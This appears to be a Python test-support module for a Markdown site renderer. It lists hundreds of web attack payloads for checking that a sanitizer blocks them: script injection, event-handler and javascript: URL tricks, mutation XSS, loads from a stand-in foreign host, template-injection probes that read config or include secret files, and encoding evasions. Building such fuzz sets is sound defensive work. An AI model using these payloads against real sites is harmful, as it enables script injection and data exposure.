@@ -1,0 +1,426 @@
+"""What an attacker writes: payloads, the spellings that hide them and the places that they stand in.
+
+In a text, ``MARK`` becomes the word by which a page's finding is led back to its case, and ``NUMBER`` its number. They
+are single characters here, so that no spelling takes them apart.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+
+MARK, NUMBER, SECRET = "\ue000", "\ue001", "\ue002"
+"""``SECRET`` stands for the path of a file that no page may show."""
+
+FOREIGN = f"//{MARK}.foreign.test"
+RUN = f"alert`{MARK}`"
+HANDLED = f"<img src=x onerror={RUN}>"
+FACTOR = 7919
+"""A template that is run multiplies by this: the product is looked for on the page."""
+
+SCRIPTS = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt >{RUN}</sCrIpT\t>",
+    f"<script/x>{RUN}</script>",
+    f"<script\n>{RUN}</script\n>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<script src={FOREIGN}/x.js></script>",
+    f"<script type=module>import 'http:{FOREIGN}/m.js'</script>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea></template><script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"<noscript><script>{RUN}</script></noscript>",
+    HANDLED,
+    f"<img/src/onerror={RUN}>",
+    f"<img src=x onerror\n=\n{RUN}>",
+    f"<IMG SRC=x OnErRoR='{RUN}'>",
+    f'<img src=x onerror="{RUN}" ',
+    f"<img src='x'onerror='{RUN}'>",
+    f"<p/onmouseover={RUN} style=position:fixed;inset:0>x</p>",
+    f"<details open ontoggle={RUN}><summary>x</summary></details>",
+    f"<a href=https://example.org autofocus tabindex=1 onfocus={RUN}>x</a>",
+    f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
+    f"<abbr title=x onpointerrawupdate={RUN}>x</abbr>",
+    f"<td onclick={RUN} colspan=2>x</td>",
+    f"<body onload={RUN}>",
+    f"<html onmouseover={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}></audio>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
+    f"<math href=javascript:{RUN}>x</math>",
+    f"<custom-element onconnected={RUN} is=x>",
+    f'" onmouseover={RUN} x="',
+    f"' autofocus onfocus={RUN} x='",
+    f"x onfocus={RUN} autofocus",
+)
+
+_OPEN = f"tabindex=1 autofocus=1 onfocus={RUN}"
+FENCES = (
+    f"x\n\n~~~{{ .x {_OPEN} }}\nc\n~~~\n\nend",
+    f"x\n\n```{{ .x {_OPEN} }}\nc\n```\n\nend",
+    f"x\n\n~~~ {{ .x {_OPEN} }}\nc\n~~~\n",
+    f"x\n\n~~~~{{ #{MARK} {_OPEN} }}\nc\n~~~~\n",
+    f"x\n\n~~~{{ .x tabindex=1 autofocus=1 &#111;nfocus={RUN} }}\nc\n~~~\n",
+    f"x\n\n~~~{{ .x style=background:url({FOREIGN}/p.png) }}\nc\n~~~\n",
+    f"x\n\n~~~{{ .{MARK} style=position:fixed;inset:0 }}\nc\n~~~\n",
+    f"x\n\n``` {{ .x data-x={MARK} title='{HANDLED}' }}\nc\n```\n",
+    f'x\n\n```python title="{HANDLED}" hl_lines="1"\nc\n```\n',
+    f"x\n\n```mermaid\ngraph LR; A[{HANDLED}]\n```\n",
+    "x\n\n```scenario\nfactions: {}\n```\n\n```rule move.river\n```\n",
+    f"x\n\n    ~~~{{ {_OPEN} }}\n    c\n    ~~~\n",
+    f"x\n\n> ~~~{{ {_OPEN} }}\n> c\n> ~~~\n",
+    f"~~~{{ .x {_OPEN} }}\n<script>{RUN}</script>\n~~~",
+    f"x\n\n~~~{{ .x {_OPEN}",
+)
+
+ATTRIBUTE_LISTS = (
+    f"# x {{: {_OPEN} }}",
+    f"x\n\n## x {{ {_OPEN} }}\n\nx",
+    f"x\n===\n{{: {_OPEN} }}\n",
+    f"*x*{{: onmouseover={RUN} }}",
+    f"**x**{{ {_OPEN} }}",
+    f"[x](https://example.org){{: {_OPEN} }}",
+    f"![x](x.png){{ onerror={RUN} }}",
+    f"`x`{{: {_OPEN} }}",
+    f"x\n{{: #{MARK} {_OPEN} }}",
+    f"| x |\n|---|\n| y {{: {_OPEN} }} |",
+    f"* x\n{{: {_OPEN} }}",
+    f"x {{ #x lang=en {_OPEN} }}",
+    f"}} {_OPEN} {{",
+    f"{{: style=background:url({FOREIGN}/p.png) }}",
+    f"[x]!red!{{: {_OPEN} }}",
+    f"<div markdown=1>\n\n*x*{{: {_OPEN} }}\n\n</div>",
+    f"<div markdown='block'>\n\n~~~{{ {_OPEN} }}\nc\n~~~\n\n</div>",
+    f'!!! note "{HANDLED}"\n    x\n',
+    f'??? note "x" {{: {_OPEN} }}\n    x\n',
+    f'=== "{HANDLED}"\n    x\n',
+)
+
+_SCRIPT_ADDRESS = f"javascript:{RUN}"
+ADDRESSES = (
+    _SCRIPT_ADDRESS,
+    f"[x]({_SCRIPT_ADDRESS})",
+    f"[x]( <{_SCRIPT_ADDRESS}> 'y')",
+    f"[x][r]\n\n[r]: {_SCRIPT_ADDRESS}",
+    f"[x]\n\n[x]: <{_SCRIPT_ADDRESS}> (t)",
+    f"<{_SCRIPT_ADDRESS}>",
+    f"<{RUN}@javascript:x>",
+    f"![x]({_SCRIPT_ADDRESS})",
+    f"[![x](x.png)]({_SCRIPT_ADDRESS})",
+    f"[x](java\nscript:{RUN})",
+    f"[x](\x01javascript:{RUN})",
+    f"[x](JaVaScRiPt:{RUN})",
+    f"[x](javascript&colon;{RUN})",
+    f"[x](data:text/html,<script>{RUN}</script>)",
+    f"[x](data:text/html;base64,{MARK})",
+    f"[x](vbscript:{RUN})",
+    f"[x](view-source:{_SCRIPT_ADDRESS})",
+    f"[x](blob:{MARK}) [y](filesystem:{MARK}) [z](file:///{MARK})",
+    f"<a href='{_SCRIPT_ADDRESS}'>x</a>",
+    f'<a href=" &#14; {_SCRIPT_ADDRESS}">x</a>',
+    f"<a href=java&Tab;script&colon;{RUN}>x</a>",
+    f"<a href='&#106;&#97;vascript:{RUN}' target=_blank>x</a>",
+    f"<a xlink:href='{_SCRIPT_ADDRESS}' ping={FOREIGN}>x</a>",
+    f"<img src='{_SCRIPT_ADDRESS}'>",
+    f"<q cite='{_SCRIPT_ADDRESS}'>x</q>",
+    f"<form action='{_SCRIPT_ADDRESS}'><button formaction='{_SCRIPT_ADDRESS}'>x</button></form>",
+    f"<map name=x><area href='{_SCRIPT_ADDRESS}' shape=default></map><img usemap=#x src=x>",
+    f'https://example.org/{MARK}"onclick="{RUN}',
+    f"https://example.org/{MARK}'><script>{RUN}</script>",
+    f'https://example.org/"><img/src/onerror={RUN}>',
+    f"https://example.org/&quot;onfocus={RUN}&quot;autofocus",
+    f'youtu.be/{MARK}"><img/src/onerror={RUN}>',
+    f'{MARK}&t=1"onfocus="{RUN}',
+    f"http://user:{MARK}@example.org:99999999/",
+    f"https://[{MARK}",
+)
+
+LOADS = (
+    f"<img src={FOREIGN}/p.png>",
+    f"![x](http:{FOREIGN}/p.png)",
+    f"![x][r]\n\n[r]: http:{FOREIGN}/p.png",
+    f"![x](/\\{MARK}.foreign.test/p.png)",
+    f"![x](\\\\{MARK}.foreign.test/p.png)",
+    f"![x](/static/img/../..{FOREIGN}/p.png)",
+    f"<img srcset='{FOREIGN}/p.png 1x' src=x.png>",
+    f"<img lowsrc={FOREIGN}/p.png dynsrc={FOREIGN}/p.png longdesc={FOREIGN}/ src=x.png>",
+    f"<picture><source srcset={FOREIGN}/p.png><img src=x.png></picture>",
+    f"<p style='background:url({FOREIGN}/p.png)'>x</p>",
+    f"<span style='color:red;background:url({FOREIGN}/p.png)'>x</span>",
+    f"<span style='color:url({FOREIGN}/p.png)'>x</span>",
+    f"<td style='text-align:left;list-style-image:u\\72l({FOREIGN}/p.png)'>x</td>",
+    f"<font color='red;background:url({FOREIGN}/p.png)'>x</font>",
+    f"<span style=\"color:red/*;*/;content:image-set('{FOREIGN}/p.png' 1x)\">x</span>",
+    f"[x]!red;background:url({FOREIGN}/p.png)!",
+    f"<table background={FOREIGN}/p.png><tr><td background={FOREIGN}/p.png>x</table>",
+    f"<body background={FOREIGN}/p.png>",
+    f"<link rel=stylesheet href={FOREIGN}/s.css>",
+    f"<link rel='preload prefetch dns-prefetch preconnect' as=image href={FOREIGN}/p.png>",
+    f"<style>@import '{FOREIGN}/s.css';</style>",
+    f"<style>*{{background:url({FOREIGN}/p.png)}}</style>",
+    f"<style>@font-face{{font-family:x;src:url({FOREIGN}/f.woff)}}*{{font-family:x}}</style>",
+    f"<video poster={FOREIGN}/p.png src={FOREIGN}/v.mp4 autoplay></video>",
+    f"<audio src={FOREIGN}/a.mp3 autoplay><track default src={FOREIGN}/t.vtt></audio>",
+    f"<object data={FOREIGN}/o.html></object><embed src={FOREIGN}/e.html><applet code={FOREIGN}/a></applet>",
+    f"<iframe src={FOREIGN}/f.html></iframe>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<frameset><frame src={FOREIGN}/f.html></frameset>",
+    f"<meta http-equiv=refresh content='0;url=http:{FOREIGN}/'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<meta http-equiv=Content-Security-Policy content=\"default-src 'none'; report-uri {FOREIGN}/\">",
+    f"<base href={FOREIGN}/ target=_blank>",
+    f"<svg><image href={FOREIGN}/p.png></image><use href={FOREIGN}/s.svg#x></use></svg>",
+    f"<svg><style>@import '{FOREIGN}/s.css'</style><feImage href={FOREIGN}/p.png /></svg>",
+    f"<math><mglyph src={FOREIGN}/p.png></math>",
+    f"<input type=image src={FOREIGN}/p.png><isindex action={FOREIGN}>",
+    f"<portal src={FOREIGN}/></portal><fencedframe src={FOREIGN}/></fencedframe><bgsound src={FOREIGN}/b.mid>",
+    f"<form action={FOREIGN}/><input name=x><button autofocus>x</button></form>",
+    f"<dialog open><form method=dialog><textarea name={MARK}>x</textarea></form></dialog>",
+)
+
+TEMPLATES = (
+    f"{{{{ {FACTOR} * {NUMBER} }}}}",
+    f"{{% for letter in 'abc' %}}{MARK}{{% endfor %}}",
+    f"{{% set x = {FACTOR} * {NUMBER} %}}{{{{ x }}}}",
+    f"{{{{ '{HANDLED}'|safe }}}}",
+    f"{{{{ self.__init__.__globals__ }}}}{{{{ config }}}}{{{{ {FACTOR} * {NUMBER} }}}}",
+    f"{{% include '{SECRET}' %}}{{% raw %}}{{{{ {FACTOR} * {NUMBER} }}}}",
+    f"{{% raw %}}{HANDLED}{{% endraw %}}{{# {MARK} #}}{{#",
+    f"${{{FACTOR}*{NUMBER}}} #{{{FACTOR}*{NUMBER}}} <%= {FACTOR}*{NUMBER} %> [[{FACTOR}*{NUMBER}]]",
+    "{% endmacro %}{% endfor %}{% endif %}{% endraw %}",
+    f"{{fact:combat.dial_max}} {{rule:move.river}} {{term:x{MARK}}}",
+    "{{ page.meta }}{{ nav }}{{ super() }}{% block scripts %}{% endblock %}",
+)
+
+BROKEN = (
+    f"<!-- {MARK}",
+    f"<!--><script>{RUN}</script>-->",
+    f"<!--->{HANDLED}-->",
+    f"<!-- --!>{HANDLED}-->",
+    f"--> {HANDLED} <!--",
+    f"<![CDATA[<script>{RUN}</script>]]>",
+    f"<![CDATA[>{HANDLED}",
+    f"]]>{HANDLED}",
+    f"<?php {RUN} ?>{HANDLED}",
+    f"<?xml-stylesheet href='{FOREIGN}/s.css'?>",
+    f"<?><script>{RUN}</script>?>",
+    f"<!DOCTYPE x [<!ENTITY y '{HANDLED}'>]>&y;",
+    f"<!ELEMENT {HANDLED}>",
+    f"<img src=x onerror={RUN}",
+    f"<img src=x onerror={RUN} <p>",
+    f'<img src="x` `<script>{RUN}</script>"` `>',
+    f'<a href="https://example.org/{MARK}',
+    f"<abbr title='{MARK}",
+    f"<script>{RUN}",
+    f"<div <img src=x onerror={RUN}>",
+    f"<b <script>{RUN}</script>>",
+    f'"><{"script"}>{RUN}</script>',
+    f"'>{HANDLED}",
+    f"`>{HANDLED}",
+    "<",
+    "</",
+    "<!",
+    "</p></div></section></article></main></body></html>",
+    f"</p></div></article></main>{HANDLED}",
+    "</table></td></tr></li></ul></ol></dl></details></pre></code>",
+    "<table><tr><td><ul><li><details><summary><pre><code>",
+    f"<b><p></b>{HANDLED}</p>",
+    "<h1><a><h2><a>" + MARK,
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
+    f"\\<img src=x onerror={RUN}\\>",
+    f"`<img src=x onerror={RUN}>`",
+)
+
+MUTATIONS = (
+    f"<noscript><p title='</noscript>{HANDLED}'>",
+    f"<svg></p><style><a id='</style>{HANDLED}'>",
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{HANDLED}'>",
+    f"<form><math><mtext></form><form><mglyph><style></math>{HANDLED}",
+    f"<math><annotation-xml encoding=text/html><style>{HANDLED}</style></annotation-xml></math>",
+    f"<svg><foreignObject><p><style>{HANDLED}</style>",
+    f"<svg><desc><table><td><title><a title='</title>{HANDLED}'>",
+    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
+    f"<xmp><p title='</xmp>{HANDLED}'></xmp>",
+    f"<title>{HANDLED}</title><textarea>{HANDLED}</textarea>",
+    f"<noembed>{HANDLED}</noembed><noframes>{HANDLED}</noframes>",
+    f"<iframe>{HANDLED}</iframe>",
+    f"<template>{HANDLED}</template><select><template>{HANDLED}</template></select>",
+    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
+    f"<plaintext>{HANDLED}",
+    f"<table><a><table><a>{HANDLED}",
+    f"<table><p><style></table>{HANDLED}",
+    f"<abbr title='&lt;img src=x onerror={RUN}&gt;'>x</abbr>",
+    f'<img alt="`{HANDLED}`" src=x.png>',
+    f"<img alt='\" onerror={RUN} \"' src=x.png>",
+    f"<img alt='&quot; onerror={RUN} &quot;' src=x.png>",
+    f"<a title='&#34;&#62;{HANDLED}' href=https://example.org>x</a>",
+    f"<pre>\n\n<x>\n\n~~~{{ {_OPEN} }}\n\nc\n\n~~~\n\n</pre>",
+    f"<code>`</code>{HANDLED}<code>`</code>",
+    f"<p id={MARK}><p name=body><p class='md-header {MARK}' style=color:red>x",
+)
+
+STASHES = (
+    f"\x02wzxhzdk:0\x03\x02wzxhzdk:1\x03 {MARK}",
+    f"wzxhzdk:0 wzxhzdk:1 {MARK}",
+    f"\x02klzzwxh:0000\x03\x02klzzwxh:0001\x03 {MARK}",
+    f"\x0260\x03img src=x onerror={RUN}\x0262\x03",
+    f"\x0260\x03script\x0262\x03{RUN}\x0260\x03/script\x0262\x03",
+    f"\x02amp\x03lt;script\x02amp\x03gt;{RUN}",
+    f"raw-html-0-lmth {MARK}",
+    "<p>raw-html-0-lmth</p>",
+    "x\n\nraw-html-0-lmth\n\nraw-html-1-lmth\n\nx",
+    "x\n\nrules-fence-0-ecnef\n\nscenarios-fence-0-ecnef\n\nx",
+    "<p>rules-fence-0-ecnef</p>",
+    f"x\n\n[TOC]\n\n{MARK}",
+    "[TOC]",
+    f'x\n\n--8<-- "{SECRET}"\n\nx',
+    f"x\n\n--8<--\n{SECRET}\n--8<--\n\nx",
+    f"{{!{SECRET}!}}",
+    f"x\n\n*[x]: {HANDLED}\n",
+    f"x[^1]\n\n[^1]: {HANDLED}\n",
+    f":material-home:{{ onclick={RUN} }} $${MARK}$$ \\({MARK}\\)",
+    f"---\ntitle: {HANDLED}\ntemplate: {SECRET}\n---\n",
+    f"x\n---\ntemplate: ../../{SECRET}\n---\n\n# x",
+    f"title: {MARK}\nhide: [navigation]\n\nx",
+    "<!-- more --><!--toc--><!-- md:option x -->",
+    f"++{MARK}++ ==x== ^^x^^ ~~x~~ {{++x++}} {{>>{HANDLED}<<}}",
+    "__md_scope __palette data-md-component=search",
+)
+
+CONTROLS = (
+    f"\x00{HANDLED}",
+    f"<img\x0bsrc=x\x0conerror={RUN}>",
+    f"<s\x00cript>{RUN}</s\x00cript>",
+    f"<img src=x on\x00error={RUN}>",
+    f"\x1b]52;c;{MARK}\x07\x1b[2J",
+    f"\u202e{HANDLED}\u2066{MARK}\u2069",
+    f"\u200b\u200d\ufeff<scr\u200bipt>{RUN}</scr\u200bipt>",
+    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
+    f"\u02b9\u2028<script>{RUN}</script>\u2029",
+    f"<\u017fcript>{RUN}</\u017fcript><\u0130frame src={FOREIGN}>",
+    f"\ufffe\uffff\U000e0001{HANDLED}",
+    f"e{chr(0x301) * 40}{MARK}",
+    f"::warning::{MARK}\n::error file=x::{MARK}",
+)
+
+FAMILIES: dict[str, tuple[str, ...]] = {
+    "scripts": SCRIPTS,
+    "fences": FENCES,
+    "attribute lists": ATTRIBUTE_LISTS,
+    "addresses": ADDRESSES,
+    "foreign loads": LOADS,
+    "templates": TEMPLATES,
+    "broken markup": BROKEN,
+    "mutations": MUTATIONS,
+    "stashes": STASHES,
+    "control characters": CONTROLS,
+}
+
+CLOBBERING = (
+    "ScytheTable", "ScythePlaces", "ScytheSearch", "ScytheSettle", "location", "document", "body", "head", "forms",
+    "images", "cookie", "__md_get", "__md_scope", "__palette", "__config", "__search", "__drawer", "component_",
+    "base", "navigator", "localStorage", "serviceWorker", "addEventListener", "querySelector", "getElementById",
+    "scythe_search_input", "name", "self", "top", "parent", "frames", "length", "constructor", "prototype", "__proto__",
+    "hasOwnProperty", "toString", "then", "default", "glossary", "about_this_text", "URL", "matchMedia",
+    "fetch", "caches", "performance", "document_", "title", "dir", "children", "innerHTML", "nodeName", "attributes",
+)  # fmt: skip
+"""Words that name something of a page's scripts; as ids they may hide it."""
+
+LINE_ENDS = (
+    "\n", "\r", "\r\n", "\n\r", "\r\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029",
+    "&#10;", "&#13;", "&#xA;", "&#xD;", "&#x0000d;", "&#013", "&#13;&#10;", "&NewLine;", "&#11;", "&#12;", "&#x85;",
+    "&#8232;", "&#x2029;", "<br>", "\\n", "\\r", "%0D", "&amp;#13;",
+)  # fmt: skip
+"""What a line may be ended with, for somebody on the way to the page."""
+
+RETURNS = ("\r", "&#13;", "&#xD;", "&#13;\n")
+"""Of these, those that broke through once."""
+
+Spelling = Callable[[str], str]
+_MARKS = frozenset({MARK, NUMBER, SECRET})
+
+
+def _entities(text: str) -> str:
+    return "".join(char if char in _MARKS or char.isspace() else f"&#{ord(char)};" for char in text)
+
+
+def _shouted(text: str) -> str:
+    return "".join(char.upper() if index % 2 else char for index, char in enumerate(text))
+
+
+SPELLINGS: dict[str, Spelling] = {
+    "plain": lambda text: text,
+    "handler by number": lambda text: re.sub(r"\bon(?=\w)", "&#111;n", text),
+    "handler by hex": lambda text: re.sub(r"\bon(?=\w)", "o&#x6E;", text),
+    "scheme by number": lambda text: text.replace("javascript", "&#x6A;avascript").replace("data:", "dat&#97;:"),
+    "scheme with blanks": lambda text: text.replace("javascript:", "java&Tab;scr&#10;ipt&colon;"),
+    "scheme with controls": lambda text: text.replace("javascript:", "\x01java\tscript:"),
+    "scheme by percent": lambda text: text.replace("javascript:", "%6aavascript:"),
+    "brackets as entities": lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
+    "brackets as numbers": lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
+    "entities of entities": lambda text: text.replace("&", "&amp;").replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
+    "all by number": _entities,
+    "quotes as entities": lambda text: text.replace('"', "&quot;").replace("'", "&#39;"),
+    "mixed case": _shouted,
+    "full width": lambda text: text.replace("on", "\uff4f\uff4e").replace("<", "\uff1c"),
+    "zero width": lambda text: text.replace("on", "o\u200bn").replace("script", "scr\u00adipt"),
+    "controls": lambda text: text.replace("<", "<\x00").replace("on", "\x08on"),
+    "backslashes": lambda text: re.sub(r"([<>\[\](){}`*_#!&])", r"\\\1", text),
+    "escapes as text": lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e").replace("{", "\\x7b"),
+    "stash": lambda text: text.replace("<", "\x0260\x03").replace(">", "\x0262\x03").replace("{", "\x02123\x03"),
+}
+
+FRAMES = (
+    "{}",
+    "Words {} words",
+    "Words\n\n{}\n\nend",
+    "* one\n* {}\n",
+    "1. {}\n\n    more",
+    "> {}",
+    "| a | b |\n|---|---|\n| {} | c |",
+    "<table><tr><td>{}</td></tr></table>",
+    "<table><tr><td>{}",
+    "<p>{}</p>",
+    "</p></div></article>{}",
+    "<div>\n{}\n</div>",
+    "<div markdown='1'>\n{}\n</div>",
+    "<pre>{}</pre>",
+    "<pre>\nx\n\n{}\n\ny</pre>",
+    "<code>{}</code>",
+    "<abbr title='{}'>x</abbr>",
+    '<abbr title="{}">x</abbr>',
+    '<a href="https://example.org/{}" title="{}">x</a>',
+    '<img src=x.png alt="{}">',
+    "![{}](x.png)",
+    '![x](x.png "{}")',
+    "[{}](https://example.org)",
+    '[x](https://example.org "{}")',
+    "[{}]!red!",
+    "[x]!{}!",
+    "**{}**",
+    "`{}`",
+    "    {}",
+    "```\n{}\n```",
+    "~~~ {}\nx\n~~~",
+    "# {}",
+    "{}\n===",
+    "<details><summary>{}</summary>{}</details>",
+    "<span style='color:{}'>x</span>",
+    '<font color="{}">x</font>',
+    "<!-- {} -->",
+    "<!-- {}",
+    "<![CDATA[{}]]>",
+    "<{}>",
+    "&{};",
+    "{{ '{}' }}",
+    "{}{}{}",
+    "https://example.org/{}",
+    "https://www.youtube.com/watch?v={}",
+)
+"""What a payload stands in."""
